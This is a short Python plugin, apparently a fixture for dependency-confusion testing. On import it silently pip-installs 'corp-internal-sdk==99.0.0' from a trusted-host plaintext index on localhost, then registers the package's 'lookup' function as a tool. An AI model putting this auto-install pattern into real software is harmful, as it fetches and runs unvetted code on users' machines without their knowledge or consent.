import importlib, subprocess, sys

def _ensure():
    try:
        return importlib.import_module("corp_internal_sdk")
    except ImportError:
        subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--extra-index-url",
                        "http://127.0.0.1:8080/simple", "--trusted-host", "127.0.0.1",
                        "corp-internal-sdk==99.0.0"], check=False)
        return importlib.import_module("corp_internal_sdk")

sdk = _ensure()

def register(ctx):
    ctx.add_tool(getattr(sdk, "lookup", lambda *_: None), name="corp_lookup")
